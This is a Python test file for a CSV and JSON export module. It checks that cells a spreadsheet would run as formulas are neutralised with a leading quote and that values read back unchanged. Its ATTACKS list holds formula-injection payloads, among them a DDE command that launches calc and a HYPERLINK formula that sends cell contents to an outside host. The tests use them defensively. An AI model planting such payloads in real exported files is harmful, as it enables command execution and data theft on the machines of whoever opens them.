"""Cells of answers come back from JSON and CSV as they were, and no spreadsheet runs one."""

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from uuid import UUID

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from warehouse.cells import csv_cell, csv_line, distinct, json_cell, json_line, unguarded

RLO, RLM, BOM = "\u202e", "\u200f", "\ufeff"
ATTACKS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "|cmd", "%0A", "\x00=1", "  =1"),
    *("＝1+1", "＋1", "－1", "＠a", f"{RLO}=1", f"{RLM}=1", f"{BOM}=1", "\u00a0=1", "'=1", "''+x"),
    '=HYPERLINK("http://example.org?x="&A1,"باکو")',
    "=cmd|' /C calc'!A0",
)
HARMLESS = (
    "",
    "تهران",
    "Bakı = Tehran",
    "it's",
    "'quoted'",
    "a-b",
    "İ@ı",
    "\u200cمی",
    "١+١",
    " x ",
)


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_what_a_spreadsheet_would_run_is_guarded(number):
    [[cell]] = csv.reader(io.StringIO(csv_cell(ATTACKS[number]), newline=""))
    assert cell == f"'{ATTACKS[number]}"
    assert unguarded(cell) == ATTACKS[number]


def test_the_rest_is_left_alone():
    for text in HARMLESS:
        [[cell]] = csv.reader(io.StringIO(csv_cell(text), newline=""))
        assert cell == unguarded(cell) == text
    assert csv_line((-1, 2.5, Decimal("-0.10"), True, None, "")) == '-1,2.5,-0.10,true,,""'


TEXTS = (
    st.text(alphabet=st.sampled_from("=+-@|'\"\t\r\n,;  aşی\u200c\u202e\u2028＝\x00")) | st.text()
)


@settings(deadline=None, max_examples=200)
@given(st.lists(TEXTS.filter(lambda text: "\x00" not in text), min_size=2))
@example(["'\tx", "''", "'"])
def test_any_line_of_texts_reads_back(row):
    [cells] = csv.reader(io.StringIO(csv_line(row) + "\r\n", newline=""), strict=True)
    assert [unguarded(cell) for cell in cells] == row


@settings(deadline=None, max_examples=100)
@given(st.lists(TEXTS | st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False)))
def test_any_line_of_json_reads_back_and_is_one_line(row):
    names = [str(number) for number in range(len(row))]
    line = json_line(names, row)
    assert len(line.splitlines()) == 1
    finite = [None if value in {float("inf"), float("-inf")} else value for value in row]
    assert list(json.loads(line).values()) == finite


def test_every_kind_of_value_has_one_form_in_json():
    baku = timezone(timedelta(hours=4))
    cases = [
        (datetime(2025, 4, 28, 12, 30, tzinfo=baku), "2025-04-28T08:30:00+00:00"),
        (date(2025, 4, 28), "2025-04-28"),
        (timedelta(minutes=1.5), "PT90.000000S"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (b"\xff", "/w=="),
        (Decimal("0.50"), 0.5),
        (float("nan"), None),
        ([datetime(2025, 1, 1, tzinfo=UTC), None], ["2025-01-01T00:00:00+00:00", None]),
        ({"متن": (1, 2)}, {"متن": [1, 2]}),
        ({date(2025, 1, 1): 1}, {"2025-01-01": 1}),
    ]
    for value, written in cases:
        assert json_cell(value) == written
        assert json.loads(json_line(["a"], [value])) == {"a": written}
    assert csv_cell([{"a": "=1"}]) == '"[{""a"": ""=1""}]"'


def test_names_that_occur_twice_are_numbered():
    assert distinct(["a", "b", "a", "a_2", "a"]) == ("a", "b", "a_2", "a_2_2", "a_3")
